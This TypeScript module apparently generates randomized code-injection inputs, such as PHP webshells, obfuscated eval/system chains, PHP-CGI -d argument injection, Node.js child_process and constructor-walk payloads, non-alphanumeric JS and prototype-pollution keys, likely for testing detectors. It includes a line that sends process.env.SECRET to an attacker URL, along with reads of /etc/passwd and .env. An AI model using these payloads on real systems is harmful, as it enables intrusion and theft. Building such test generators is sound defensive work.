/**
 * Code injection into PHP and server-side JavaScript: open tags, dangerous function chains, ini
 * directives, variable functions, webshell markers; child_process loading, constructor walks,
 * template-literal calls, non-alphanumeric JS; and prototype pollution through keys.
 */
import type { AttackFamily } from './family.js';
import { attackerUrl, base64, int, maybe, pick, unixCommand, type Random } from './grammar.js';

const PHP_EXEC = ['system', 'exec', 'passthru', 'shell_exec', 'popen', 'proc_open', 'pcntl_exec'];
const PHP_DECODERS = ['base64_decode', 'str_rot13', 'gzinflate', 'gzuncompress', 'hex2bin', 'urldecode', 'strrev'];
const SUPERGLOBALS = ['$_GET', '$_POST', '$_REQUEST', '$_COOKIE', '$_SERVER', '$_FILES'];

function phpInput(random: Random): string {
  return `${pick(SUPERGLOBALS, random)}[${pick(["'c'", "'cmd'", '"x"', '0', "'pass'", "'HTTP_X'"], random)}]`;
}

function phpCall(random: Random): string {
  const cmd = unixCommand(random);
  return pick([
    `${pick(PHP_EXEC, random)}(${random() < 0.5 ? `'${cmd}'` : phpInput(random)})`,
    `@${pick(['eval', 'assert'], random)}(${pick(PHP_DECODERS, random)}(${random() < 0.5 ? `'${base64(`system('${cmd}');`)}'` : phpInput(random)}))`,
    `${pick(['eval', 'assert'], random)}(${phpInput(random)})`,
    `preg_replace('/.*/e','${pick(PHP_EXEC, random)}("${cmd}")','')`,
    `call_user_func('${pick(PHP_EXEC, random)}','${cmd}')`,
    `array_map('${pick(PHP_EXEC, random)}',array('${cmd}'))`,
    `$f=${pick(["'sys'.'tem'", "strrev('metsys')", "str_rot13('flfgrz')", `${pick(PHP_DECODERS, random)}('${base64('system')}')`], random)};$f('${cmd}')`,
    `${phpInput(random)}(${phpInput(random)})`,
    `\${'_'.'GET'}[${pick(["'a'", '0'], random)}](\${'_'.'GET'}[${pick(["'b'", '1'], random)}])`,
    `file_put_contents('${pick(['x.php', 'shell.php', '../s.php', '/var/www/html/.a.php'], random)}',${pick(["'<?php system($_GET[c]);'", `file_get_contents('${attackerUrl(random)}')`], random)})`,
    `include('${attackerUrl(random)}')`,
    pick(['phpinfo()', 'phpinfo(-1)', 'phpinfo(INFO_ALL)', 'phpinfo(1)', 'php_uname()', 'getenv("PATH")'], random),
    `$_=[];$_=@"$_";$_=$_['!'=='@'];`,
  ], random);
}

function phpInjection(random: Random): string {
  const call = phpCall(random);
  switch (int(random, 0, 6)) {
    case 0:
    case 1:
      return `<?php ${call};${maybe(random, 0.6, ' ?>')}`;
    case 2:
      return `<?=${pick([call, '`' + unixCommand(random) + '`'], random)}?>`;
    case 3:
      return `${pick(['', 'x', '1', '";', "';"], random)}${call};${maybe(random, 0.3, '//')}`;
    case 4:
      return pick([
        // PHP-CGI argument injection (CVE-2012-1823 / CVE-2024-4577): -d flags drawn, sometimes encoded.
        (() => {
          const flags = [`allow_url_include=${pick(['1', 'On', 'true'], random)}`, `auto_prepend_file=${pick(['php://input', `${attackerUrl(random)}x.txt`, '/proc/self/environ'], random)}`, ...(random() < 0.5 ? [pick(['safe_mode=Off', 'disable_functions=""', 'open_basedir=none', 'cgi.force_redirect=0', 'suhosin.simulation=On'], random)] : [])].map((f) => `${pick(['-d', '%ADd', '-d'], random)} ${f}`).join(' ');
          return random() < 0.3 ? flags.replace(/ /g, '+').replace(/=/g, '%3d') : `${flags}${maybe(random, 0.3, ' -n')}`;
        })(),
        `allow_url_include=On\nauto_prepend_file=${attackerUrl(random)}x.txt`,
        `auto_append_file=data://text/plain;base64,${base64(`<?php ${call};?>`)}`,
        // php.ini directives in input (a .user.ini upload, PHP-CGI -d, a settings form): drawn and joined.
        // At least one directive that lifts a restriction or runs a file, then maybe others.
        [...new Set([pick(['disable_functions=', 'open_basedir=none', 'allow_url_include=On', `auto_prepend_file=${pick(['php://input', '/proc/self/environ', 'data://text/plain,<?php phpinfo();?>'], random)}`, `auto_append_file=${pick(['php://input', '/tmp/sess_x'], random)}`], random), ...Array.from({ length: int(random, 1, 2) }, () => pick(['disable_functions=', 'open_basedir=/', 'allow_url_include=On', 'allow_url_fopen=1', 'safe_mode=Off', 'short_open_tag=On', 'display_errors=1'], random))])].join(pick(['&', '\n', ' ', ';'], random)),

      ], random);
    case 5:
      return `<script language="php">${call};</script>`;
    default:
      return pick([
        `<?php @eval($_POST['${pick(['pass', 'x', 'c', 'cmd', 'ant'], random)}']);?>`,
        `GIF89a<?php ${call}; ?>`,
        `<?php /* ${pick(['c99shell', 'r57shell', 'WSO', 'b374k', 'FilesMan', 'IndoXploit', 'Alfa Shell'], random)} */ ${call}; ?>`,
        `<?php if(isset($_REQUEST['${pick(['cmd', 'c', 'x'], random)}'])){echo "<pre>";${pick(PHP_EXEC, random)}($_REQUEST['${pick(['cmd', 'c'], random)}']);} ?>`,
      ], random);
  }
}

/** A number in non-alphanumeric JS: `+[]`, `+!+[]`, `!+[]+!+[]`... */
function jsfuckNumber(n: number, random: Random): string {
  if (n === 0) return pick(['+[]', '+![]'], random);
  if (n === 1) return pick(['+!+[]', '+!![]'], random);
  return Array.from({ length: n }, () => '!+[]').join('+');
}

/** Where non-alphanumeric JS finds each letter: in the strings of false, true, undefined and [object Object]. */
const JSFUCK_SOURCES: readonly (readonly [string, string])[] = [['(![]+[])', 'false'], ['(!![]+[])', 'true'], ['([][[]]+[])', 'undefined'], ['([]+{})', '[object Object]']];

/** `word` spelled in non-alphanumeric JS, each letter from one of the strings that hold it (some left as a quoted letter). */
function jsfuckString(word: string, random: Random): string {
  return [...word]
    .map((ch) => {
      const sources = JSFUCK_SOURCES.filter(([, text]) => text.includes(ch));
      if (sources.length === 0 || random() < 0.15) return `"${ch}"`;
      const [expr, text] = pick(sources, random);
      const positions = [...text].flatMap((c, i) => (c === ch ? [i] : []));
      return `${expr}[${jsfuckNumber(pick(positions, random), random)}]`;
    })
    .join('+');
}

function nodeSsjs(random: Random): string {
  const cmd = unixCommand(random);
  const cp = pick([
    `require('child_process')`, `require("child_process")`, `process.mainModule.require('child_process')`, `global.process.mainModule.constructor._load('child_process')`,
    `module.constructor._load('child_process')`, `process.binding('spawn_sync')`, `import('child_process')`, `require('child'+'_process')`, `require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115))`,
  ], random);
  const call = `${cp}.${pick(['exec', 'execSync', 'spawn', 'spawnSync', 'execFileSync'], random)}(${pick([`'${cmd}'`, '`' + cmd + '`', `"${cmd}"`], random)})${maybe(random, 0.3, '.toString()')}`;
  switch (int(random, 0, 7)) {
    case 0:
    case 1:
      return call;
    case 2:
      return `${pick(['this', '[]', '""', '({})', 'x'], random)}.constructor.constructor(${pick([`'return process'`, '"return this.process"', "'return global.process.mainModule'"], random)})()${pick([".mainModule.require('child_process').execSync('" + cmd + "')", '.exit()', ".env"], random)}`;
    case 3:
      return `${pick(['eval', 'Function', 'setTimeout', 'setInterval'], random)}\`${pick([`require('child_process').execSync('${cmd}')`, `process.${pick(['exit', 'abort', 'kill'], random)}(${pick(['', '1', 'process.pid'], random)})`, pick(['while(1){}', 'for(;;){}', 'while(!0);', 'do{}while(1)', 'while(true){}'], random)], random)}\``;
    case 4:
      return `res.${pick(['end', 'send', 'write'], random)}(require('fs').${pick(['readFileSync', 'readdirSync'], random)}('${pick(['/etc/passwd', '.', '/proc/self/environ', '../.env'], random)}')${maybe(random, 0.5, '.toString()')})`;
    case 5:
      if (random() < 0.85) {
        // The Function constructor reached through an array method's constructor, names spelled in
        // non-alphanumeric JS: `[]["filter"]["constructor"]("return process")()`.
        const method = pick(['filter', 'fill', 'sort', 'at', 'concat', 'entries'], random);
        const body = pick(['return process', 'return this', 'return global', `return process.mainModule.require('child_process').execSync('${cmd}')`, 'while(1){}'], random);
        return `[][${jsfuckString(method, random)}][${jsfuckString('constructor', random)}](${random() < 0.5 ? `"${body}"` : jsfuckString(body.slice(0, 6), random) + `+"${body.slice(6)}"`})()${pick(['', '', '.exit()', '.env'], random)}`;
      }
      return pick([
        '[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]]()',
        '$=~[];$={___:++$,$$$$:(![]+"")[$],__$:++$,$_$_:(![]+"")[$],_$_:++$};$.$_=($.$_=$+"")[$.$_$]',
        '(+[![]]+[][(![]+[])[+[]]])[+!+[]+[+[]]]',
        '[]["filter"]["constructor"]("return process")()',
        '_=[]["constructor"]["constructor"],_("return this")()',
      ], random);
    case 6:
      return `${pick(['', '1;', "';", '");'], random)}${pick(['var d=new Date();do{var c=new Date();}while(c-d<' + int(random, 2, 9) * 1000 + ')', pick(['while(true){}', 'for(;;){}', 'while(1);'], random), `process.${pick(['kill(process.pid)', 'exit()', 'abort()'], random)}`, `require('http').get('${attackerUrl(random)}?'+process.env.SECRET)`], random)}${maybe(random, 0.5, '//')}`;
    default:
      return `{{${pick(['constructor.constructor', "range.constructor"], random)}("return process.mainModule.require('child_process').execSync('${cmd}')")()}}`;
  }
}

function prototypePollution(random: Random): string {
  const prop = pick(['isAdmin', 'admin', 'role', 'polluted', 'toString', 'outputFunctionName', 'shell', 'NODE_OPTIONS', 'env', 'execArgv', 'sourceURL', 'allowedTags', 'innerHTML', 'client', 'escapeFunction'], random);
  const value = pick(['true', '1', 'x', 'admin', `_tmp1;global.process.mainModule.require('child_process').execSync('${unixCommand(random)}');var __tmp2`, '--require /proc/self/environ', 'node', `<img src=x onerror=alert(1)>`], random);
  switch (int(random, 0, 6)) {
    case 0:
      return `__proto__[${prop}]=${value}`;
    case 1:
      return `constructor[prototype][${prop}]=${value}`;
    case 2:
      return `__proto__.${prop}=${value}`;
    case 3:
      return `{"${pick(['user', 'settings', 'profile', 'data'], random)}":{"__proto__":{"${prop}":${JSON.stringify(value)}}}}`;
    case 4:
      return `{"constructor":{"prototype":{"${prop}":${JSON.stringify(value)}}}}`;
    case 5:
      return `${pick(['a', 'x', 'user', 'settings'], random)}[__proto__][${prop}]=${value}`;
    default:
      return `${pick(['', '#'], random)}__proto__${pick(['[', '.'], random)}${prop}${pick([']', ''], random)}=${value}`;
  }
}

export const CODE_FAMILIES: readonly AttackFamily[] = [
  { name: 'php-injection', category: 'code-injection', places: ['query', 'form', 'json', 'header'], make: phpInjection },
  { name: 'node-ssjs', category: 'code-injection', places: ['json', 'query', 'form'], make: nodeSsjs },
  { name: 'prototype-pollution', category: 'code-injection', places: ['query-name', 'json-key', 'form'], make: prototypePollution },
];
